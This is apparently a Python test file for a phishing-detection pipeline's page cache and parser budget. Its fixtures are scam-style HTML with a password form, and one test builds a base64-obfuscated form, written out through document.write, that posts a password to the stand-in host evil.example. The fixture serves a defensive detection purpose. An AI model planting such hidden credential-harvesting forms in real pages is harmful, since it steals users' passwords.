"""Pages parsed a moment ago are shared with the next stage judging the same page, never a page
parsed over budget, and never between threads."""

from __future__ import annotations

import base64
import itertools
import threading
from dataclasses import dataclass

from pipelines._recent import RecentPages
from pipelines.budget import Budget
from pipelines.signals import parse_page

FIELD = b"<input type=password name=pw></form>"
PAGE = (
    "<html><head><title>Dune 3 free</title></head><body><h1>Watch Dune</h1>"
    "<a href='https://bit.ly/x'>play</a><form action='/gate.php'>"
    "<input type=password name=pw></form></body></html>"
)


@dataclass
class _Value:
    text: str


def test_a_kept_value_is_read_back_as_a_copy() -> None:
    recent: RecentPages[_Value] = RecentPages(2)
    recent.put("https://a.example/", PAGE, _Value("words"))
    first = recent.get("https://a.example/", PAGE)
    assert first == _Value("words")
    first.text = "a post's own words"  # a caller rebinding a field
    assert recent.get("https://a.example/", PAGE) == _Value("words")


def test_the_same_html_at_another_url_is_another_page() -> None:
    recent: RecentPages[_Value] = RecentPages(2)
    recent.put("https://a.example/", PAGE, _Value("a"))
    assert recent.get("https://b.example/", PAGE) is None
    assert recent.get("https://a.example/", PAGE + " ") is None


def test_the_oldest_page_goes_first() -> None:
    recent: RecentPages[_Value] = RecentPages(2)
    for n in range(3):
        recent.put(f"https://{n}.example/", PAGE, _Value(str(n)))
    assert recent.get("https://0.example/", PAGE) is None
    assert recent.get("https://2.example/", PAGE) == _Value("2")


def test_each_thread_keeps_its_own_pages() -> None:
    recent: RecentPages[_Value] = RecentPages(2)
    recent.put("https://a.example/", PAGE, _Value("main"))
    seen: list[_Value | None] = []
    worker = threading.Thread(target=lambda: seen.append(recent.get("https://a.example/", PAGE)))
    worker.start()
    worker.join()
    assert seen == [None]


def test_the_candidate_stage_reads_the_page_the_verdict_parsed() -> None:
    url = "https://shared.example/dune"
    judged = parse_page(PAGE, url, Budget())
    again = parse_page(PAGE, url)
    assert again is not judged
    assert again == judged
    assert again == parse_page(PAGE, url, Budget())  # parsed afresh under a budget


def test_a_page_parsed_over_budget_is_parsed_again_in_full() -> None:
    url = "https://slow.example/dune"
    hidden = base64.b64encode(b"<form action='https://evil.example/g.php'>" + FIELD).decode()
    page = (
        f"<html><body><p>Dune</p><script>document.write(atob('{hidden}'))</script></body></html>"
    )
    clock = itertools.count()  # every reading of the clock is one second later
    partial = parse_page(page, url, Budget(0.5, clock=lambda: float(next(clock))))
    assert partial.forms == []  # the scripts were never decoded
    full = parse_page(page, url)
    assert [f.action for f in full.forms] == ["https://evil.example/g.php"]
